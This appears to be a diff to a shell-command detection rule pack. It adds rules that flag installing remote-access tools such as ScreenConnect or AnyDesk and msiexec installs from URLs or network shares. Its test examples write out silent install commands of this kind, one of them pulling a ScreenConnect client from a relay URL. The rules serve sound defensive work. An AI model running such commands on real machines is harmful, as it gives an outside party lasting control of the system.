@@ -2,6 +2,9 @@
 import type { Rule } from "../../rule-pack.js";
 import { re, T, END, PATH_PREFIX, START, SHELLS, RUN_WRAPPERS, NO_DRY_RUN } from "./fragments.js";
 
+/** Remote-access tools attackers install for a way back in (T1219), as their installers and packages are named. */
+const REMOTE_ACCESS_TOOL = "(?:screenconnect|connectwise|anydesk|teamviewer|splashtop|rustdesk|atera|simplehelp|meshagent|logmein|netsupport|ammyy)";
+
 export const SHELL_RULES: readonly Rule[] = [
 
   {
@@ -332,6 +335,39 @@ export const SHELL_RULES: readonly Rule[] = [
     examples: {
       match: ["docker rm traefik", "docker stop traefik", "docker-compose -f traefik.yml down", "docker kill -s 9 haproxy"],
       noMatch: ["docker logs traefik", "docker inspect traefik", "traefik version", "docker restart traefik"],
+    },
+  },
+  {
+    id: "shell.remote-access-install",
+    category: "shell",
+    reason: "Installs or downloads a remote-access tool (ScreenConnect, AnyDesk, TeamViewer…): whoever runs its relay can control this machine from now on (T1219).",
+    score: 90,
+    keywords: ["screenconnect", "connectwise", "anydesk", "teamviewer", "splashtop", "rustdesk", "atera", "simplehelp", "meshagent", "logmein", "netsupport", "ammyy"],
+    pattern: re(
+      String.raw`(?:\bmsiexec\b[^;&|]{0,60}?[/-](?:i|package)${END}|\b(?:choco|winget|scoop|snap|brew|apt(?:-get)?|dnf|yum|zypper)\b[^;&|]{0,60}? install${END}|\bdpkg -i${END})[^;&|]{0,300}?${REMOTE_ACCESS_TOOL}|\b(?:curl|wget|iwr|invoke-webrequest|irm|invoke-restmethod|start-bitstransfer|bitsadmin|certutil)\b[^;&|]{0,300}?${REMOTE_ACCESS_TOOL}[^\s'";&|]{0,200}?\.(?:msi|exe|deb|rpm|pkg|dmg|appimage|run)${END}`,
+    ),
+    examples: {
+      match: [
+        'msiexec /i "https://lfms-support.screenconnect.com/bin/screenconnect.clientsetup.msi?e=access&y=guest" /qn',
+        "choco install anydesk -y",
+        "winget install teamviewer.teamviewer --silent",
+        "curl -lo /tmp/ad.deb https://download.anydesk.com/linux/anydesk_6.3.0-1_amd64.deb",
+        "sudo dpkg -i rustdesk-1.2.3-x86_64.deb",
+        "brew install --cask anydesk",
+      ],
+      noMatch: ["brew info teamviewer", "grep -r anydesk /var/log", "apt remove anydesk", "curl -s https://anydesk.com/en/downloads", "choco uninstall anydesk -y", "msiexec /x screenconnect.msi /qn"],
+    },
+  },
+  {
+    id: "shell.msi-from-url",
+    category: "shell",
+    reason: "Installs a Windows package straight from a URL or a network share, unreviewed (T1218.007).",
+    score: 75,
+    keywords: ["msiexec"],
+    pattern: re(String.raw`\bmsiexec\b[^;&|]{0,60}?[/-](?:i|package)${END}[^;&|]{0,20}?['"]?(?:https?://|ftp://|\\\\)`),
+    examples: {
+      match: ['msiexec /i "https://example.net/agent.msi" /qn', "msiexec /i \\\\fileserver\\share\\agent.msi /quiet"],
+      noMatch: ["msiexec /i c:\\temp\\agent.msi /qn", "msiexec /x {12345678-1234-1234-1234-123456789012} /qn", "msiexec /i build\\out\\setup.msi"],
     },
   },
   {
